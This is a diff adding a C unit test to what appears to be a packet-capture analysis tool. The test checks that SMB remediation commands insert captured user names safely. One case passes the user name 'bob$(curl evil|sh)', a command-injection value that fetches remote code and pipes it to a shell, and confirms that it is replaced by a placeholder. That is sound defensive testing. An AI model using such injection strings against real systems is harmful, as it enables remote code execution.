@@ -554,6 +554,37 @@ START_TEST(t_smb_session_causes)
 }
 END_TEST
 
+/* Fixes in the capture's names (issue 18, item 10): the account of LAB\\bob
+ * goes into the commands; a user name outside a name's grammar leaves the
+ * placeholder, never the name. */
+START_TEST(t_smb_session_fix_names)
+{
+	struct kf_result *r = fx_new();
+	ntlm_logon(r, 3, 1, C, "LAB", "bob", 0xC0000072u, 0);
+	fx_finish(r);
+	fx_run(r, "smb-session-failed");
+	const struct kf_finding *f = fx_find(r, "smb-session-failed");
+	ck_assert_ptr_nonnull(f);
+	ck_assert_msg(contains(f->remediation, "Enable-ADAccount bob ") &&
+			      contains(f->remediation, "samba-tool user enable bob`") &&
+			      contains(f->remediation, "net user bob /active:yes") &&
+			      !contains(f->remediation, "<user>"),
+		      "%s", f->remediation);
+	fx_free(r);
+
+	r = fx_new();
+	ntlm_logon(r, 3, 1, C, "LAB", "bob$(curl evil|sh)", 0xC0000072u, 0);
+	fx_finish(r);
+	fx_run(r, "smb-session-failed");
+	f = fx_find(r, "smb-session-failed");
+	ck_assert_ptr_nonnull(f);
+	ck_assert_msg(contains(f->remediation, "Enable-ADAccount <user>") &&
+			      !contains(f->remediation, "curl"),
+		      "%s", f->remediation);
+	fx_free(r);
+}
+END_TEST
+
 /* A LOGON_FAILURE answering a Kerberos AP-REQ, no Kerberos error in the
  * answer: the ticket was refused (the user: whom the ticket was issued to). */
 START_TEST(t_smb_session_kerberos_refused)
@@ -808,6 +839,7 @@ int main(void)
 	suite_add_tcase(s, nt);
 	TCase *sf = tcase_create("smb-session-and-share");
 	tcase_add_test(sf, t_smb_session_causes);
+	tcase_add_test(sf, t_smb_session_fix_names);
 	tcase_add_test(sf, t_smb_session_kerberos_refused);
 	tcase_add_test(sf, t_smb_session_smb1);
 	tcase_add_test(sf, t_smb_session_anonymous);
